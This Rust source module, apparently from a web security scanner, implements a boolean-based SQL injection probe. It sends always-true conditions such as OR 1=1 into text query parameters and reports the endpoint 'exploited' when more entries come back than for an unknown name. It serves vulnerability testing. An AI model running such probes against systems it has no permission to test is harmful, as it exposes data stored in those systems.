//! A condition that is always true in place of a value.

use crate::door::{GuideDoor, ShutBy};
use crate::need::Need;
use crate::oracle;
use crate::payloads::sql::{ALWAYS_TRUE, UNKNOWN_NAME};
use crate::probing::{Attack, AttackError, Probing};
use crate::verdict::{Attempts, Verdict};

pub(super) const ATTACK: Attack = Attack {
    name: "sql-boolean",
    door: GuideDoor::SqlInjection,
    shut_by: ShutBy::Code,
    thought: "If I close the quote and add OR 1=1, does the query return everything?",
    needs: &[Need::TextQuery],
    run: |probing| Box::pin(run(probing)),
};

async fn run(p: Probing<'_>) -> Result<Verdict, AttackError> {
    let mut attempts = Attempts::default();
    for (endpoint, name) in p.text_queries() {
        let probe = |value: &str| p.query(endpoint, name, value);
        let (control, control_seen) = p.send(&probe(UNKNOWN_NAME)).await?;
        if !control.is_success() {
            attempts.unjudged("an ordinary value is not served");
            continue;
        }
        for payload in ALWAYS_TRUE {
            let (answer, seen) = p.send(&probe(payload)).await?;
            if let Some((before, now)) = oracle::grew(&control, &answer) {
                let summary = format!("{name}={payload} returns {now} entries, an unknown name {before}");
                return Ok(Verdict::exploited(summary, vec![control_seen, seen]));
            }
            attempts.blocked(seen);
        }
    }
    Ok(attempts.verdict("no condition changed what is returned", "no operation takes text in its query"))
}
